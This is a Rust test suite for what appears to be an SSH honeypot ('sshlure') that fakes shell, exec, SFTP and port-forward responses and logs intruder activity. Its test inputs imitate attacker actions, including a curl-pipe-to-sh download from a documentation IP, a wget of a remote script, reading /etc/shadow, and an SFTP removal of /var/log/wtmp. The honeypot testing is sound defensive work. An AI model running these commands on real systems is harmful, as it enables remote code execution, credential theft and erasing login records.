mod test_support;

use sshlure::channel::sink::RecordingSink;
use sshlure::channel::task::run_channel;
use sshlure::channel::{
    to_crlf, ActiveMode, ChannelAction, ChannelEmulator, ChannelEvent, ChannelKind, ChannelState,
    MAX_ENV_VARS,
};
use std::time::Duration;
use test_support::*;
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

const COMMANDS: &str = r#"
[[shell.commands]]
prefix = "uname -a"
stdout = "Linux server 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux\n"

[[shell.commands]]
prefix = "cat /etc/shadow"
stderr = "cat: /etc/shadow: Permission denied\n"
exit_status = 1
"#;

const FABRICATE: &str = r#"
[forwarding]
direct_tcpip = "fabricate"
max_capture_bytes = 8

[[forwarding.services]]
port = 25
response = "220 mail.example.com ESMTP Postfix\r\n"
"#;

fn session(harness: &ChannelHarness) -> ChannelEmulator {
    ChannelEmulator::new(harness.ctx.clone(), ChannelKind::Session)
}

fn direct(harness: &ChannelHarness, port: u32) -> ChannelEmulator {
    ChannelEmulator::new(
        harness.ctx.clone(),
        ChannelKind::DirectTcpip {
            host: "10.0.0.25".to_string(),
            port,
            originator: "127.0.0.1:50000".to_string(),
        },
    )
}

fn pty() -> ChannelEvent {
    ChannelEvent::PtyRequest {
        term: "xterm-256color".to_string(),
        cols: 120,
        rows: 40,
    }
}

fn data(bytes: &[u8]) -> ChannelEvent {
    ChannelEvent::Data(bytes.to_vec())
}

fn sftp_packet(kind: u8, request_id: u32, path: &str) -> Vec<u8> {
    let mut body = vec![kind];
    body.extend_from_slice(&request_id.to_be_bytes());
    body.extend_from_slice(&(path.len() as u32).to_be_bytes());
    body.extend_from_slice(path.as_bytes());
    let mut packet = (body.len() as u32).to_be_bytes().to_vec();
    packet.extend_from_slice(&body);
    packet
}

const SFTP_INIT: [u8; 9] = [0, 0, 0, 5, 1, 0, 0, 0, 3];
const SFTP_VERSION: [u8; 9] = [0, 0, 0, 5, 2, 0, 0, 0, 3];

// ---------------------------------------------------------------------------
// exec
// ---------------------------------------------------------------------------

#[test]
fn exec_table_command() {
    let mut h = channel_harness(COMMANDS, "root");
    let mut ch = session(&h);
    assert!(ch.start().is_empty());
    assert_eq!(ch.state(), ChannelState::AwaitingRequest);

    let actions = ch.handle(ChannelEvent::Exec(b"uname -a".to_vec()));
    assert_eq!(
        actions,
        vec![
            ChannelAction::Success,
            ChannelAction::Data(
                b"Linux server 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux\n".to_vec()
            ),
            ChannelAction::ExitStatus(0),
            ChannelAction::Eof,
            ChannelAction::Close,
        ]
    );
    assert!(ch.is_closed());

    let events = as_json(&h.events());
    assert_eq!(events.len(), 2);
    assert_eq!(events[0]["event_type"], "exec.request");
    assert_eq!(events[0]["command"], "uname -a");
    assert_eq!(events[0]["matched_rule"], "uname -a");
    assert_eq!(events[0]["exit_status"], 0);
    assert_eq!(events[1]["event_type"], "channel.close");
}

#[test]
fn exec_stderr_goes_to_extended_data_without_pty() {
    let h = channel_harness(COMMANDS, "root");
    let mut ch = session(&h);
    let actions = ch.handle(ChannelEvent::Exec(b"cat /etc/shadow".to_vec()));
    assert_eq!(
        actions,
        vec![
            ChannelAction::Success,
            ChannelAction::ExtendedData(b"cat: /etc/shadow: Permission denied\n".to_vec()),
            ChannelAction::ExitStatus(1),
            ChannelAction::Eof,
            ChannelAction::Close,
        ]
    );
}

#[test]
fn exec_unknown_command() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    let actions = ch.handle(ChannelEvent::Exec(b"curl -s http://203.0.113.5/a | sh".to_vec()));
    assert_eq!(
        actions,
        vec![
            ChannelAction::Success,
            ChannelAction::ExtendedData(b"curl: command not found\n".to_vec()),
            ChannelAction::ExitStatus(127),
            ChannelAction::Eof,
            ChannelAction::Close,
        ]
    );
    let events = as_json(&h.events());
    assert!(events[0]["matched_rule"].is_null());
    assert_eq!(events[0]["exit_status"], 127);
}

#[test]
fn exec_with_pty_merges_streams_with_crlf() {
    let h = channel_harness(COMMANDS, "root");
    let mut ch = session(&h);
    ch.handle(pty());
    let actions = ch.handle(ChannelEvent::Exec(b"cat /etc/shadow".to_vec()));
    assert_eq!(
        actions[1],
        ChannelAction::Data(b"cat: /etc/shadow: Permission denied\r\n".to_vec())
    );
}

#[test]
fn exec_output_precedes_exit_status() {
    let h = channel_harness("", "root");
    let mut ch = session(&h);
    let actions = ch.handle(ChannelEvent::Exec(b"echo hi".to_vec()));
    let data_at = actions
        .iter()
        .position(|a| matches!(a, ChannelAction::Data(_)))
        .unwrap();
    let status_at = actions
        .iter()
        .position(|a| matches!(a, ChannelAction::ExitStatus(_)))
        .unwrap();
    assert!(data_at < status_at);
}

// ---------------------------------------------------------------------------
// shell
// ---------------------------------------------------------------------------

#[test]
fn interactive_shell_with_pty() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    assert_eq!(ch.handle(pty()), vec![ChannelAction::Success]);
    assert_eq!(ch.pty().unwrap().term, "xterm-256color");

    let prompt = b"root@server:~# ".to_vec();
    assert_eq!(
        ch.handle(ChannelEvent::Shell),
        vec![ChannelAction::Success, ChannelAction::Data(prompt.clone())]
    );
    assert_eq!(ch.state(), ChannelState::Active(ActiveMode::Shell));

    assert_eq!(
        ch.handle(data(b"whoami\r")),
        vec![
            ChannelAction::Data(b"whoami\r\n".to_vec()),
            ChannelAction::Data(b"root\r\n".to_vec()),
            ChannelAction::ExitStatus(0),
            ChannelAction::Data(prompt.clone()),
        ]
    );

    assert_eq!(
        ch.handle(data(b"exit\r")),
        vec![
            ChannelAction::Data(b"exit\r\n".to_vec()),
            ChannelAction::ExitStatus(0),
            ChannelAction::Eof,
            ChannelAction::Close,
        ]
    );
    assert!(ch.is_closed());

    let events = h.events();
    let inputs = as_json(
        &of_type(&events, "shell.input")
            .into_iter()
            .cloned()
            .collect::<Vec<_>>(),
    );
    assert_eq!(inputs.len(), 2);
    assert_eq!(inputs[0]["line"], "whoami");
    assert_eq!(inputs[0]["matched_rule"], "whoami");
    assert_eq!(inputs[1]["line"], "exit");
    assert_eq!(of_type(&events, "channel.close").len(), 1);
}

#[test]
fn shell_without_pty_has_no_prompt_or_echo() {
    let h = channel_harness("", "pi");
    let mut ch = session(&h);
    assert_eq!(ch.handle(ChannelEvent::Shell), vec![ChannelAction::Success]);
    assert_eq!(
        ch.handle(data(b"id\n")),
        vec![
            ChannelAction::ExtendedData(b"id: command not found\n".to_vec()),
            ChannelAction::ExitStatus(127),
        ]
    );
}

#[test]
fn shell_line_exit_status_can_be_disabled() {
    let h = channel_harness(
        r#"
[shell]
line_exit_status = false
"#,
        "pi",
    );
    let mut ch = session(&h);
    ch.handle(ChannelEvent::Shell);
    assert_eq!(
        ch.handle(data(b"echo ok\n")),
        vec![ChannelAction::Data(b"ok\n".to_vec())]
    );
}

#[test]
fn shell_blank_line_only_reprompts() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    ch.handle(pty());
    ch.handle(ChannelEvent::Shell);
    h.events();
    assert_eq!(
        ch.handle(data(b"\r")),
        vec![
            ChannelAction::Data(b"\r\n".to_vec()),
            ChannelAction::Data(b"root@server:~# ".to_vec()),
        ]
    );
    assert!(h.events().is_empty());
}

#[test]
fn shell_ctrl_d_ends_session() {
    let h = channel_harness("", "root");
    let mut ch = session(&h);
    ch.handle(pty());
    ch.handle(ChannelEvent::Shell);
    assert_eq!(
        ch.handle(data(b"\x04")),
        vec![
            ChannelAction::ExitStatus(0),
            ChannelAction::Eof,
            ChannelAction::Close,
        ]
    );
}

#[test]
fn shell_eof_from_peer_ends_session() {
    let h = channel_harness("", "root");
    let mut ch = session(&h);
    ch.handle(ChannelEvent::Shell);
    assert_eq!(
        ch.handle(ChannelEvent::Eof),
        vec![
            ChannelAction::ExitStatus(0),
            ChannelAction::Eof,
            ChannelAction::Close,
        ]
    );
}

#[test]
fn lines_after_exit_in_same_chunk_are_ignored() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    ch.handle(ChannelEvent::Shell);
    ch.handle(data(b"exit\nwhoami\n"));
    let events = h.events();
    assert_eq!(of_type(&events, "shell.input").len(), 1);
}

#[test]
fn second_program_request_refused() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    assert_eq!(ch.handle(ChannelEvent::Shell), vec![ChannelAction::Success]);
    assert_eq!(ch.handle(ChannelEvent::Shell), vec![ChannelAction::Failure]);
    assert_eq!(
        ch.handle(ChannelEvent::Exec(b"wget http://203.0.113.9/x.sh".to_vec())),
        vec![ChannelAction::Failure]
    );
    assert_eq!(
        ch.handle(ChannelEvent::Subsystem("sftp".into())),
        vec![ChannelAction::Failure]
    );
    assert_eq!(ch.state(), ChannelState::Active(ActiveMode::Shell));

    // Refused requests are still recorded, command included.
    let events = as_json(&h.events());
    let refused_exec: Vec<_> = events
        .iter()
        .filter(|e| e["event_type"] == "channel.request" && e["request_type"] == "exec")
        .collect();
    assert_eq!(refused_exec.len(), 1);
    assert_eq!(refused_exec[0]["accepted"], false);
    assert_eq!(
        refused_exec[0]["payload"]["command"],
        "wget http://203.0.113.9/x.sh"
    );
    assert!(events
        .iter()
        .all(|e| e["event_type"] != "exec.request"));
}

#[test]
fn exec_on_forward_channel_refused_and_recorded() {
    let mut h = channel_harness(FABRICATE, "root");
    let mut ch = direct(&h, 80);
    ch.start();
    assert_eq!(
        ch.handle(ChannelEvent::Exec(b"id".to_vec())),
        vec![ChannelAction::Failure]
    );
    let events = as_json(&h.events());
    let last = events.last().unwrap();
    assert_eq!(last["event_type"], "channel.request");
    assert_eq!(last["request_type"], "exec");
    assert_eq!(last["accepted"], false);
    assert_eq!(last["payload"]["command"], "id");
}

// ---------------------------------------------------------------------------
// other requests
// ---------------------------------------------------------------------------

#[test]
fn env_recorded_until_cap() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    assert_eq!(
        ch.handle(ChannelEvent::Env {
            name: "LANG".into(),
            value: "C.UTF-8".into()
        }),
        vec![ChannelAction::Success]
    );
    assert_eq!(ch.env(), &[("LANG".to_string(), "C.UTF-8".to_string())]);

    for i in 1..MAX_ENV_VARS {
        ch.handle(ChannelEvent::Env {
            name: format!("V{i}"),
            value: String::new(),
        });
    }
    assert_eq!(
        ch.handle(ChannelEvent::Env {
            name: "ONE_TOO_MANY".into(),
            value: "x".into()
        }),
        vec![ChannelAction::Failure]
    );
    assert_eq!(ch.env().len(), MAX_ENV_VARS);

    let events = as_json(&h.events());
    assert_eq!(events[0]["request_type"], "env");
    assert_eq!(events[0]["payload"]["name"], "LANG");
    assert_eq!(events.last().unwrap()["accepted"], false);
}

#[test]
fn window_change_updates_dimensions_silently() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    ch.handle(pty());
    assert!(ch
        .handle(ChannelEvent::WindowChange { cols: 80, rows: 24 })
        .is_empty());
    let pty = ch.pty().unwrap();
    assert_eq!((pty.cols, pty.rows), (80, 24));
    let events = as_json(&h.events());
    assert_eq!(events.last().unwrap()["request_type"], "window-change");
}

#[test]
fn x11_refused_and_agent_audited() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    assert_eq!(
        ch.handle(ChannelEvent::X11Request),
        vec![ChannelAction::Failure]
    );
    assert!(ch.handle(ChannelEvent::AgentRequest).is_empty());
    let events = as_json(&h.events());
    assert_eq!(events[0]["request_type"], "x11-req");
    assert_eq!(events[0]["accepted"], false);
    assert_eq!(events[1]["request_type"], "auth-agent-req");
}

#[test]
fn pty_refused_on_forward_channel() {
    let h = channel_harness(FABRICATE, "root");
    let mut ch = direct(&h, 80);
    ch.start();
    assert_eq!(ch.handle(pty()), vec![ChannelAction::Failure]);
    assert!(ch.pty().is_none());
}

#[test]
fn data_before_program_is_ignored() {
    let h = channel_harness("", "root");
    let mut ch = session(&h);
    assert!(ch.handle(data(b"ls\n")).is_empty());
    assert_eq!(ch.bytes_received(), 3);
    assert_eq!(ch.state(), ChannelState::AwaitingRequest);
}

// ---------------------------------------------------------------------------
// subsystems
// ---------------------------------------------------------------------------

#[test]
fn sftp_handshake_and_denial() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    assert_eq!(
        ch.handle(ChannelEvent::Subsystem("sftp".into())),
        vec![ChannelAction::Success]
    );
    assert_eq!(ch.state(), ChannelState::Active(ActiveMode::Sftp));

    assert_eq!(
        ch.handle(data(&SFTP_INIT)),
        vec![ChannelAction::Data(SFTP_VERSION.to_vec())]
    );

    let open = sftp_packet(3, 1, "/etc/passwd");
    let actions = ch.handle(data(&open));
    assert_eq!(actions.len(), 1);
    let ChannelAction::Data(reply) = &actions[0] else {
        panic!("expected data, got {:?}", actions[0]);
    };
    assert_eq!(reply[4], 101);
    assert_eq!(&reply[5..9], &1u32.to_be_bytes());
    assert_eq!(&reply[9..13], &3u32.to_be_bytes());

    let events = as_json(&h.events());
    assert_eq!(events[0]["event_type"], "subsystem.request");
    assert_eq!(events[0]["accepted"], true);
    assert_eq!(events[1]["event_type"], "sftp.request");
    assert_eq!(events[1]["operation"], "open");
    assert_eq!(events[1]["path"], "/etc/passwd");
}

#[test]
fn sftp_oversized_packet_closes_channel() {
    let h = channel_harness("", "root");
    let mut ch = session(&h);
    ch.handle(ChannelEvent::Subsystem("sftp".into()));
    let actions = ch.handle(data(&[0x7f, 0xff, 0xff, 0xff]));
    assert_eq!(actions, vec![ChannelAction::Close]);
    assert!(ch.is_closed());
}

#[test]
fn sftp_requests_before_bad_packet_are_answered_and_recorded() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    ch.handle(ChannelEvent::Subsystem("sftp".into()));
    ch.handle(data(&SFTP_INIT));

    let mut chunk = sftp_packet(13, 4, "/var/log/wtmp");
    chunk.extend_from_slice(&[0, 0, 0, 0]);
    let actions = ch.handle(data(&chunk));
    assert_eq!(actions.len(), 2);
    assert!(matches!(actions[0], ChannelAction::Data(_)));
    assert_eq!(actions[1], ChannelAction::Close);
    assert!(ch.is_closed());

    let events = as_json(&h.events());
    let sftp: Vec<_> = events
        .iter()
        .filter(|e| e["event_type"] == "sftp.request")
        .collect();
    assert_eq!(sftp.len(), 1);
    assert_eq!(sftp[0]["operation"], "remove");
    assert_eq!(sftp[0]["path"], "/var/log/wtmp");
}

#[test]
fn subsystem_not_allowed() {
    let mut h = channel_harness(
        r#"
[subsystems]
allowed = []
"#,
        "root",
    );
    let mut ch = session(&h);
    assert_eq!(
        ch.handle(ChannelEvent::Subsystem("sftp".into())),
        vec![ChannelAction::Failure]
    );
    assert_eq!(ch.state(), ChannelState::AwaitingRequest);
    let events = as_json(&h.events());
    assert_eq!(events[0]["accepted"], false);
}

#[test]
fn opaque_subsystem_swallows_input() {
    let h = channel_harness(
        r#"
[subsystems]
allowed = ["netconf"]
"#,
        "root",
    );
    let mut ch = session(&h);
    assert_eq!(
        ch.handle(ChannelEvent::Subsystem("netconf".into())),
        vec![ChannelAction::Success]
    );
    assert!(ch.handle(data(b"<hello/>")).is_empty());
    assert_eq!(
        ch.handle(ChannelEvent::Eof),
        vec![
            ChannelAction::ExitStatus(0),
            ChannelAction::Eof,
            ChannelAction::Close,
        ]
    );
}

// ---------------------------------------------------------------------------
// direct-tcpip fabrication
// ---------------------------------------------------------------------------

#[test]
fn forward_sends_service_banner_once() {
    let h = channel_harness(FABRICATE, "root");
    let mut ch = direct(&h, 25);
    assert_eq!(
        ch.start(),
        vec![ChannelAction::Data(
            b"220 mail.example.com ESMTP Postfix\r\n".to_vec()
        )]
    );
    assert!(ch.start().is_empty());
    assert_eq!(ch.state(), ChannelState::Active(ActiveMode::Forward));
}

#[test]
fn forward_without_service_is_silent() {
    let h = channel_harness(FABRICATE, "root");
    let mut ch = direct(&h, 443);
    assert!(ch.start().is_empty());
}

#[test]
fn forward_payload_sampled_and_truncated() {
    let mut h = channel_harness(FABRICATE, "root");
    let mut ch = direct(&h, 80);
    ch.start();
    assert!(ch.handle(data(b"GET / HT")).is_empty());
    assert!(ch.handle(data(b"TP/1.1\r\n")).is_empty());
    assert!(ch.handle(data(b"Host: x\r\n")).is_empty());
    assert_eq!(ch.bytes_received(), 25);

    let events = as_json(&h.events());
    let samples: Vec<_> = events
        .iter()
        .filter(|e| e["event_type"] == "channel.data")
        .collect();
    assert_eq!(samples.len(), 1);
    assert_eq!(samples[0]["payload"], "GET / HT");
    assert_eq!(samples[0]["truncated"], false);
}

#[test]
fn forward_sample_marks_truncation_within_chunk() {
    let mut h = channel_harness(FABRICATE, "root");
    let mut ch = direct(&h, 80);
    ch.start();
    ch.handle(data(b"SSH-2.0-Go\r\n"));
    let events = as_json(&h.events());
    assert_eq!(events[0]["payload"], "SSH-2.0-");
    assert_eq!(events[0]["truncated"], true);
}

#[test]
fn forward_eof_closes() {
    let h = channel_harness(FABRICATE, "root");
    let mut ch = direct(&h, 80);
    ch.start();
    assert_eq!(
        ch.handle(ChannelEvent::Eof),
        vec![ChannelAction::Eof, ChannelAction::Close]
    );
    assert!(ch.is_closed());
}

// ---------------------------------------------------------------------------
// close
// ---------------------------------------------------------------------------

#[test]
fn close_is_idempotent() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    ch.handle(ChannelEvent::Shell);
    assert_eq!(ch.handle(ChannelEvent::Close), vec![ChannelAction::Close]);
    assert!(ch.handle(ChannelEvent::Close).is_empty());
    assert!(ch.handle(data(b"ls\n")).is_empty());
    ch.abort();

    let events = h.events();
    assert_eq!(of_type(&events, "channel.close").len(), 1);
}

#[test]
fn peer_close_after_exec_sends_nothing() {
    let h = channel_harness("", "root");
    let mut ch = session(&h);
    ch.handle(ChannelEvent::Exec(b"true".to_vec()));
    assert!(ch.handle(ChannelEvent::Close).is_empty());
}

#[test]
fn close_event_reports_bytes_received() {
    let mut h = channel_harness("", "root");
    let mut ch = session(&h);
    ch.handle(ChannelEvent::Shell);
    ch.handle(data(b"echo 1\n"));
    ch.handle(ChannelEvent::Close);
    let events = as_json(&h.events());
    assert_eq!(events.last().unwrap()["event_type"], "channel.close");
    assert_eq!(events.last().unwrap()["bytes_received"], 7);
}

#[test]
fn to_crlf_leaves_existing_crlf() {
    assert_eq!(to_crlf("a\r\nb\n"), b"a\r\nb\r\n");
}

// ---------------------------------------------------------------------------
// channel task
// ---------------------------------------------------------------------------

#[tokio::test]
async fn task_applies_events_in_order() {
    let mut h = channel_harness(COMMANDS, "root");
    let emulator = session(&h);
    let sink = RecordingSink::new();
    let (tx, rx) = mpsc::channel(16);

    tx.send(pty()).await.unwrap();
    tx.send(ChannelEvent::Exec(b"uname -a".to_vec())).await.unwrap();
    // Queued after the channel closed; never applied.
    tx.send(ChannelEvent::Shell).await.unwrap();

    tokio::time::timeout(
        Duration::from_secs(5),
        run_channel(emulator, rx, sink.clone(), CancellationToken::new()),
    )
    .await
    .unwrap();

    let actions = sink.actions();
    assert_eq!(actions.first(), Some(&ChannelAction::Success));
    assert_eq!(actions.last(), Some(&ChannelAction::Close));
    assert_eq!(
        actions
            .iter()
            .filter(|a| **a == ChannelAction::Close)
            .count(),
        1
    );
    assert_eq!(of_type(&h.events(), "channel.close").len(), 1);
}

#[tokio::test]
async fn task_sends_forward_banner_before_events() {
    let h = channel_harness(FABRICATE, "root");
    let emulator = direct(&h, 25);
    let sink = RecordingSink::new();
    let (tx, rx) = mpsc::channel(16);
    tx.send(ChannelEvent::Eof).await.unwrap();

    run_channel(emulator, rx, sink.clone(), CancellationToken::new()).await;

    assert_eq!(
        sink.actions(),
        vec![
            ChannelAction::Data(b"220 mail.example.com ESMTP Postfix\r\n".to_vec()),
            ChannelAction::Eof,
            ChannelAction::Close,
        ]
    );
}

#[tokio::test]
async fn task_stops_on_cancel() {
    let mut h = channel_harness("", "root");
    let emulator = session(&h);
    let (_tx, rx) = mpsc::channel::<ChannelEvent>(16);
    let cancel = CancellationToken::new();
    let task = tokio::spawn(run_channel(
        emulator,
        rx,
        RecordingSink::new(),
        cancel.clone(),
    ));

    cancel.cancel();
    tokio::time::timeout(Duration::from_secs(5), task)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(of_type(&h.events(), "channel.close").len(), 1);
}

#[tokio::test]
async fn task_stops_when_queue_dropped() {
    let mut h = channel_harness("", "root");
    let emulator = session(&h);
    let (tx, rx) = mpsc::channel::<ChannelEvent>(16);
    tx.send(ChannelEvent::Shell).await.unwrap();
    drop(tx);

    let sink = RecordingSink::new();
    run_channel(emulator, rx, sink.clone(), CancellationToken::new()).await;
    assert_eq!(sink.actions(), vec![ChannelAction::Success]);
    assert_eq!(of_type(&h.events(), "channel.close").len(), 1);
}

#[tokio::test]
async fn task_stops_when_sink_fails() {
    let mut h = channel_harness("", "root");
    let emulator = session(&h);
    let (tx, rx) = mpsc::channel::<ChannelEvent>(16);
    tx.send(pty()).await.unwrap();
    tx.send(ChannelEvent::Shell).await.unwrap();
    tx.send(data(b"whoami\r")).await.unwrap();

    let sink = RecordingSink::failing_after(1);
    tokio::time::timeout(
        Duration::from_secs(5),
        run_channel(emulator, rx, sink.clone(), CancellationToken::new()),
    )
    .await
    .unwrap();

    assert_eq!(sink.actions(), vec![ChannelAction::Success]);
    let events = h.events();
    assert!(of_type(&events, "shell.input").is_empty());
    assert_eq!(of_type(&events, "channel.close").len(), 1);
}
